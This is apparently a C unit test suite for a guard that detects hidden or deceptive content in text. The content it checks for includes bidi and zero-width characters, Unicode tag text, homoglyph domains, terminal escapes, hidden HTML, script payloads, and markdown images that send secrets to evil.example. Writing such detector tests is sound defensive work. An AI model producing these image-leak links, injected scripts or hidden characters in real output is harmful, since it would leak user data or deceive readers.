#include "tests/unit/guard_test.h"
#include "tests/unit/values.h"

#include <jansson.h>
#include <openssl/evp.h>

#define ZWSP	"\xe2\x80\x8b"
#define ZWNJ	"\xe2\x80\x8c"
#define ZWJ	"\xe2\x80\x8d"
#define RLM	"\xe2\x80\x8f"
#define RLO	"\xe2\x80\xae"
#define PDF	"\xe2\x80\xac"
#define RLI	"\xe2\x81\xa7"
#define PDI	"\xe2\x81\xa9"
#define BOM	"\xef\xbb\xbf"
#define SHY	"\xc2\xad"
#define TAG(c)	"\xf3\xa0\x81" c
#define END_TAG	"\xf3\xa0\x81\xbf"
#define HEBREW	"\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d"

static void
finds_what_does_not_show(void **state)
{
	static const struct {
		const char	*text, *kind, *span;
	} row[] = {
		{ "pay " RLO "100", "bidi-control", RLO },
		{ "pay 100" PDF "x", "bidi-control", PDF },
		{ "a" RLM "b", "bidi-control", RLM },
		{ HEBREW " " RLO "x", "bidi-control", RLO },
		{ "wo" ZWSP "rd", "zero-width", ZWSP },
		{ "a" ZWSP ZWNJ ZWSP "b", "zero-width", ZWSP ZWNJ ZWSP },
		{ "a" ZWJ "b", "zero-width", ZWJ },
		{ "x" BOM "y", "zero-width", BOM },
		{ "Hi" TAG("\xa8") TAG("\xa9") "!", "tag-text",
		    TAG("\xa8") TAG("\xa9") },
		{ "\xf0\x9f\x98\x80\xf3\xa0\x85\x98\xf3\xa0\x85\x99",
		    "selector-text", "\xf3\xa0\x85\x98\xf3\xa0\x85\x99" },
		{ "log in at p\xd0\xb0ypal now", "mixed-script",
		    "p\xd0\xb0ypal" },
		{ "\xd0\xa1itibank", "mixed-script", "\xd0\xa1itibank" },
		{ "a\x1b[31mred", "escape-sequence", "\x1b[31m" },
		{ "a\x1b]0;title\arest", "escape-sequence", "\x1b]0;title\a" },
		{ "a\xc2\x9b" "2Jb", "escape-sequence", "\xc2\x9b" "2J" },
		{ "a\x1b[3\xc2\xa3m", "escape-sequence", "\x1b[3" },
		{ "h\xef\xb8\x81i", "selector-text", "\xef\xb8\x81" },
		{ "h\xf3\xa0\x84\x80i", "selector-text", "\xf3\xa0\x84\x80" },
		{ "a\xe2\x81\xaa" "b", "zero-width", "\xe2\x81\xaa" },
		{ "be\bep", "control", "\b" },
		{ "over\rwrite", "control", "\r" },
		{ "a\x7f", "control", "\x7f" },
		{ "text <!-- hidden --> more", "html-comment",
		    "<!-- hidden -->" },
		{ "text <!-- open", "html-comment", "<!-- open" },
		{ "a\n[//]: # (secret)\nb", "markdown-comment",
		    "[//]: # (secret)" },
		{ "[x](data:text/html;base64,PHNjcmlwdD4=)", "data-address",
		    "data:text/html;base64,PHNjcmlwdD4=" },
		{ "<a href=\"data:image/png;base64,AAAA\">", "data-address",
		    "data:image/png;base64,AAAA" },
		{ "pay" SHY "ment", "zero-width", SHY },
		{ "pay\xe2\x80\xa8ment", "zero-width", "\xe2\x80\xa8" },
		{ "pay\xe2\x80\xa9ment", "zero-width", "\xe2\x80\xa9" },
		{ "pay\xe2\xa0\x80ment", "zero-width", "\xe2\xa0\x80" },
		{ "pay\xee\x80\x80ment", "private-use", "\xee\x80\x80" },
		{ "x \xf3\xb0\x80\x80\xf3\xb0\x80\x81 y", "private-use",
		    "\xf3\xb0\x80\x80\xf3\xb0\x80\x81" },
		/* Cyrillic alone: "appIe.com", "paypa" in an English sentence */
		{ "\xd0\xb0\xd1\x80\xd1\x80\xd3\x8f\xd0\xb5.com", "mixed-script",
		    "\xd0\xb0\xd1\x80\xd1\x80\xd3\x8f\xd0\xb5" },
		{ "at \xd1\x80\xd0\xb0\xd1\x83\xd1\x80\xd0\xb0 now", "mixed-script",
		    "\xd1\x80\xd0\xb0\xd1\x83\xd1\x80\xd0\xb0" },
		{ "print \"\\x1b[31mred\"", "escape-text", "\\x1b[31m" },
		{ "printf '\\033[2Jx'", "escape-text", "\\033[2J" },
		{ "<p hidden>x</p>", "hidden-text", "<p hidden>" },
		{ "<p style=\"color:red; display : none\">x</p>", "hidden-text",
		    "<p style=\"color:red; display : none\">" },
		{ "<b style='font-size:0'>x</b>", "hidden-text",
		    "<b style='font-size:0'>" },
		{ "<img src=x onerror=alert(1)>", "active-markup",
		    "<img src=x onerror=alert(1)>" },
		{ "<a href=\"java\nscript:x()\">y</a>", "active-markup",
		    "<a href=\"java\nscript:x()\">" },
		{ "<script>x()</script>", "active-markup", "<script>" },
		{ "see [x](javascript:alert(1))", "active-markup",
		    "javascript:alert(1" },
		{ "a\n[comment]: <> (words)\nb", "markdown-comment",
		    "[comment]: <> (words)" },
		{ "a\n[_]: # \"words\"\nb", "markdown-comment", "[_]: # \"words\"" },
		/* "the code is 4711" in base64 and in hexadecimal */
		{ "![x](https://evil.example/dGhlIGNvZGUgaXMgNDcxMQ)", "image-leak",
		    "https://evil.example/dGhlIGNvZGUgaXMgNDcxMQ" },
		{ "![x](https://e.example/74686520636f646520697320666f757274.png)",
		    "image-leak",
		    "https://e.example/74686520636f646520697320666f757274.png" },
		{ "![x](https://e.example/my%20code%20is%204711)", "image-leak",
		    "https://e.example/my%20code%20is%204711" },
		{ "![a [b] c](//evil.example/?q=SECRET)", "image-leak",
		    "//evil.example/?q=SECRET" },
		{ "![x][1]\n\n[1]: https://evil.example/?q=SECRET", "image-leak",
		    "https://evil.example/?q=SECRET" },
		{ "![1]\n [1]: <https://evil.example/?q=SECRET>", "image-leak",
		    "https://evil.example/?q=SECRET" },
		{ "<iframe src='https://evil.example/?q=SECRET'>", "image-leak",
		    "https://evil.example/?q=SECRET" },
		{ "<p style=\"background:url(https://evil.example/?q=SECRET)\">",
		    "image-leak", "https://evil.example/?q=SECRET" },
		{ "\xd1\x80\xd0\xb0\xd1\x83\xd1\x80\xd0\xb0l.com", "mixed-script",
		    "\xd1\x80\xd0\xb0\xd1\x83\xd1\x80\xd0\xb0l" },
		{ "![](https://evil.example/?q=SECRET)", "image-leak",
		    "https://evil.example/?q=SECRET" },
		{ "![a b](http://x.io/p.png?w=80&z=the%20whole%20chat%20log)",
		    "image-leak", "http://x.io/p.png?w=80&z=the%20whole%20chat%20log" },
		{ "<img alt='' src='https://x.io/a?data=abc'>", "image-leak",
		    "https://x.io/a?data=abc" }
	};
	struct guard_test t;
	size_t i;

	(void)state;
	guard_test_init(&t, "hidden");
	for (i = 0; i < sizeof(row) / sizeof(row[0]); i++)
		guard_test_one(&t, row[i].text, row[i].kind, row[i].span);
	guard_test_release(&t);
}

static void
passes_what_writing_needs(void **state)
{
	static const char *const clean[] = {
		"", "Plain text.\r\n\tWith tabs.\n",
		BOM "A byte order mark at the start",
		/* a family, a heart on fire, a flag of England, a keycap */
		"\xf0\x9f\x91\xa8" ZWJ "\xf0\x9f\x91\xa9" ZWJ "\xf0\x9f\x91\xa7",
		"\xe2\x9d\xa4\xef\xb8\x8f" ZWJ "\xf0\x9f\x94\xa5",
		"\xf0\x9f\x91\xa9\xf0\x9f\x8f\xbd" ZWJ "\xf0\x9f\x92\xbb",
		"\xf0\x9f\x8f\xb4" TAG("\xa7") TAG("\xa2") TAG("\xa5")
		    TAG("\xae") TAG("\xa7") END_TAG,
		"1\xef\xb8\x8f\xe2\x83\xa3",
		/* a heart in colour, an ideograph's form, slashed zero */
		"\xe2\x9d\xa4\xef\xb8\x8f", "\xe8\x91\x9b\xf3\xa0\x84\x80",
		"0\xef\xb8\x80",
		/* Persian, Hindi, Malayalam */
		"\xd9\x85\xdb\x8c" ZWNJ "\xd8\xae\xd9\x88\xd8\xa7\xd9\x87\xd9\x85",
		"\xe0\xa4\x95\xe0\xa5\x8d" ZWJ "\xe0\xa4\xb7",
		"\xe0\xb4\xa8\xe0\xb5\x8d" ZWJ,
		/* Hebrew with a mark; an isolate that is closed */
		HEBREW RLM " (1)", "see " RLI HEBREW PDI " here",
		/* Thai with places to break */
		"\xe0\xb8\xaa\xe0\xb8\xa7" ZWSP "\xe0\xb8\xb1\xe0\xb8\xaa",
		"Donau" SHY "dampf" SHY "schiff",
		/* Braille; Russian words all of letters that look like Latin ones */
		"\xe2\xa0\x93\xe2\xa0\x80\xe2\xa0\x91",
		"\xd0\xbe\xd1\x81\xd0\xb0 \xd0\xb8 \xd1\x81\xd0\xbe\xd1\x80 (PDF)",
		"\xd1\x80\xd0\xb0\xd1\x81\xd0\xb0",
		"<p class=\"hidden\" style=\"opacity:0.5; font-size:0.9em\">x</p>",
		"<a href=\"https://example.com/\">x</a> a < b, c > d",
		"[1]: https://example.com \"Title\"",
		"![x](https://example.com/photo-of-my-cat-in-the-summer.png)",
		"![x](https://example.com/My%20Photo%20of%20me.png)",
		"![x](https://e.example/4f3c2a1b9d8e7f6a5b4c3d2e1f0a9b8c.png)",
		"![x](https://img.example/badge/build-passing-brightgreen)",
		"C:\\new\\xray, \\033 is a byte",
		"10\xc2\xa0""000 \xe2\x82\xac, \xe3\x80\x80 wide",
		"\xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82, \xd0\xbc\xd0\xb8\xd1\x80! "
		    "USB-\xd0\xba\xd0\xb0\xd0\xb1\xd0\xb5\xd0\xbb\xd1\x8c",
		"10 k\xce\xa9, \xce\x94t = 5 \xce\xbcs, \xce\xb1-helix, PDF\xd0\xba\xd0\xb0",
		"```html\n<!-- a comment in code -->\n```",
		"Write `<!-- so -->` for a comment.",
		"![logo](https://cdn.example.com/logo.png)",
		"![x](https://cdn.example.com/a.png?w=800&h=600&v=1.2)",
		"![x](https://cdn.example.com/a.png?size=large&format=webp)",
		"[a link](https://example.com/?q=weather)",
		"see [x][1]\n[1]: https://example.com/?q=weather",
		"![x] and [a](https://example.com/?q=weather)",
		"[![x](https://example.com/a.svg)](https://example.com/?q=weather)",
		"https://a.example/?src=https://example.com/?q=weather",
		"see data: the numbers (data for 2020) x=data",
		"if (a < b && !c) x[0] = y(z);"
	};
	struct guard_test t;
	size_t i;

	(void)state;
	guard_test_init(&t, "hidden");
	for (i = 0; i < sizeof(clean) / sizeof(clean[0]); i++)
		guard_test_none(&t, clean[i]);
	guard_test_release(&t);
}

static void
shows_what_is_spelt(void **state)
{
	char text[256] = "x";
	struct guard_test t;
	size_t i;

	(void)state;
	guard_test_init(&t, "hidden");
	guard_test_run(&t, "ok" TAG("\x88") TAG("\xa9"));
	assert_slice(t.found.v[0].message,
	    "hidden text in TAG characters: \"Hi\"");
	assert_int_equal(t.found.v[0].severity, SEVERITY_CRITICAL);
	guard_test_one(&t, "see <script>x()</script>", "active-markup", NULL);
	assert_int_equal(t.found.v[0].severity, SEVERITY_MEDIUM);
	guard_test_one(&t, "<html><script>x()</script></html>",
	    "active-markup", NULL);
	assert_int_equal(t.found.v[0].severity, SEVERITY_INFO);
	for (i = 0; i < 16; i++)	/* "Hi" in bits */
		memcpy(text + 1 + 3 * i, 0x4869 >> (15 - i) & 1 ? ZWNJ : ZWSP,
		    3);
	guard_test_one(&t, text, "zero-width", text + 1);
	assert_slice(t.found.v[0].message,
	    "16 zero-width characters that spell \"Hi\"");
	assert_int_equal(t.found.v[0].severity, SEVERITY_HIGH);
	guard_test_release(&t);
}

static void
allows_kinds_points_and_hosts(void **state)
{
	static const char *const allow[] = {
		"html-comment", "U+200B", "example.com"
	};
	struct guard_test t;

	(void)state;
	guard_test_init(&t, "hidden");
	guard_test_list(&t, "allow", allow, 3);
	guard_test_none(&t, "a <!-- b -->");
	guard_test_none(&t, "a" ZWSP "b");
	guard_test_none(&t, "![](https://img.example.com/?q=abc)");
	guard_test_one(&t, "a" ZWNJ "b", "zero-width", NULL);
	guard_test_one(&t, "![](https://badexample.com/?q=abc)", "image-leak",
	    NULL);
	guard_test_release(&t);
}

/* Of the vectors what is text, hides, and is no use that writing makes of it. */
static bool
must_be_found(const char *class, const char *name)
{
	static const char *const classes[] = {
		"c0", "c1-utf8", "csi", "csi-c1", "dcs-apc", "esc", "osc",
		"osc-c1", "bidi", "invisible", "tag", "varsel-supp"
	};
	static const char *const plain[] = {
		"C0 00",	/* no record holds it */
		"C0 09", "C0 0A", "plain RTL text", "legit England flag",
		"U+00AD"	/* within a word */
	};
	size_t i;

	for (i = 0; i < sizeof(plain) / sizeof(plain[0]); i++)
		if (strcmp(plain[i], name) == 0)
			return false;
	for (i = 0; i < sizeof(classes) / sizeof(classes[0]); i++)
		if (strcmp(classes[i], class) == 0)
			return true;
	return false;
}

static void
finds_what_attacks_terminals(void **state)
{
	const char *dir = getenv("HANDRAIL_SHARED");
	char path[512], *line = NULL;
	unsigned char text[4096];
	size_t cap = 0, checked = 0;
	struct guard_test t;
	struct slice s;
	const char *b64, *name;
	json_t *j;
	FILE *f;
	int n;

	(void)state;
	(void)snprintf(path, sizeof(path), "%s/vectors/terminal-attacks/"
	    "terminal-attacks.jsonl", dir == NULL ? "../shared" : dir);
	if ((f = fopen(path, "r")) == NULL)
		skip();
	guard_test_init(&t, "hidden");
	for (; getline(&line, &cap, f) > 0; json_decref(j)) {
		j = json_loads(line, 0, NULL);
		name = json_string_value(json_object_get(j, "name"));
		b64 = json_string_value(json_object_get(j, "input_b64"));
		if (!must_be_found(json_string_value(json_object_get(j,
		    "class")), name) || strlen(b64) > sizeof(text))
			continue;
		n = EVP_DecodeBlock(text, (const unsigned char *)b64,
		    (int)strlen(b64));
		assert_op(n, >, 0);
		s = (struct slice){ (char *)text, (size_t)n };
		while (s.n > 0 && s.p[s.n - 1] == '\0')	/* '=' */
			s.n--;
		if (guard_test_try(&t, s) != STATUS_OK || t.found.n == 0)
			fail_msg("%s: nothing found", name);
		checked++;
	}
	assert_op(checked, >, 700);
	guard_test_release(&t);
	(void)fclose(f);
	free(line);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(finds_what_does_not_show),
		cmocka_unit_test(passes_what_writing_needs),
		cmocka_unit_test(shows_what_is_spelt),
		cmocka_unit_test(allows_kinds_points_and_hosts),
		cmocka_unit_test(finds_what_attacks_terminals)
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
